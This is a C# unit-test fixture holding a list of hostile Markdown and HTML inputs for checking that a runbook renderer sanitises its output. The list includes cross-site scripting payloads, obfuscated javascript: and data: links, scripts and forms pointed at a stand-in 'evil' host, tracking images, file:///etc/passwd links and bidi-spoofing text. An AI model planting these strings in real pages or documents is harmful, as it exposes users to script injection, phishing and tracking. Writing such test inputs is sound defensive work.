namespace Incidents.Core.Tests.Runbooks;

/// <summary>Text that has made other Markdown renderers run scripts, follow hosts or lie about what is shown.</summary>
internal static class HostileMarkdown
{
    public static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)>", "<embed src=//evil>", "<base href=//evil/>", "<meta http-equiv=refresh content=\"0;url=//evil\">",
        "<link rel=stylesheet href=//evil>", "<style>@import '//evil';</style>", "<form action=//evil><input name=password></form>", "<a href=\"javascript:alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<video><source onerror=alert(1)>", "<template><script>alert(1)</script></template>", "</p></div></main><h1>Signed out</h1>",
        "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script> -->", "<!-- step: x --><script>alert(1)</script>", "<!-- a --> <img src=x onerror=alert(1)> <!-- b -->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml <script>alert(1)</script> ?>",
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](  javascript:alert(1))", "[a](&#106;avascript:alert(1))", "[a](&#x6A;avascript:alert(1))", "[a](javascript&colon;alert(1))",
        "[a](java&Tab;script:alert(1))", "[a](java&NewLine;script:alert(1))", "[a](<java\tscript:alert(1)>)", "[a](\\javascript:alert(1))", "[a](javascript\\:alert(1))", "[a](&#1;javascript:alert(1))",
        "[a](vbscript:msgbox(1))", "[a](data:text/html,<script>alert(1)</script>)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](file:///etc/passwd)", "[a](blob:x)", "[a](about:blank)", "[a](view-source:x)",
        "[a](//evil.example)", "[a](/\\evil.example)", "[a](\\\\evil.example)", "[a](///evil.example)", "[a](https:evil.example)", "[a](http:/evil.example)", "[a](https://good.example@evil.example)", "[a](https://good.example%2F@evil.example)",
        "[a](https://user:pass@evil.example/)", "[a](https:///evil.example)", "[a](https://)", "[a](http://\\evil.example)", "[a](x \"\\\" onmouseover=alert(1) x=\\\"\")", "[a](x 'y\" onmouseover=\"alert(1)')",
        "![a](javascript:alert(1))", "![a](https://evil.example/track.gif)", "![a](//evil.example/track.gif)", "![a](data:image/svg+xml,<svg onload=alert(1)>)", "![\" onerror=\"alert(1)](x)", "![a](x\" onerror=\"alert(1))", "![a](x 'y\" onerror=\"alert(1)')",
        "<javascript:alert(1)>", "<vbscript:x>", "<data:text/html,x>", "<file:///etc/passwd>", "<https://good@evil.example>", "<a@b.example\" onclick=alert(1)>",
        "[a]: javascript:alert(1)\n\n[a]", "[a]: //evil.example\n\n[a][]", "[a]: x 'y\" onclick=\"alert(1)'\n\n![a]", "https://good@evil.example/", "www.evil.example\"onclick=alert(1)", "javascript:alert(1)",
        "h {onclick=alert(1)}", "# h {#x onclick=alert(1)}", "[a](x){onclick=alert(1)}", "```\" onclick=\"alert(1)\nx\n```", "~~~<script>alert(1)</script>\nx\n~~~", "```{onclick=alert(1)}\nx\n```",
        "> [!<script>alert(1)</script>]\n> x", "> [!CAUTION\" onclick=\"alert(1)]\n> x", "> [!EVIL]\n> x", "- [x]<script>alert(1)</script>", "| <script>alert(1)</script> |\n|:-:|\n| x |", "a\u202Ekcatta\u202C", "a\u2066b\u2069", "a&#x202E;b", "[a\u202Eb](https://x.example/\u202Ey)",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "\\<script>alert(1)</script>", "[<img src=x onerror=alert(1)>](x)", "**<b onclick=alert(1)>x</b>**", "[a](https://x.example/\"onclick=alert(1))", "[a](https://xn--/\u0000)",
        "<a\nhref=javascript:alert(1)\n>x</a>", "[x](javascript\n:alert(1))", "[a](#\" onclick=\"alert(1))", "# \" onclick=\"alert(1)", "# <img src=x onerror=alert(1)>", "<pre></pre></code></pre><script>alert(1)</script>", "---\ntitle: <script>alert(1)</script>\n---\n<script>alert(1)</script>",
    ];
}
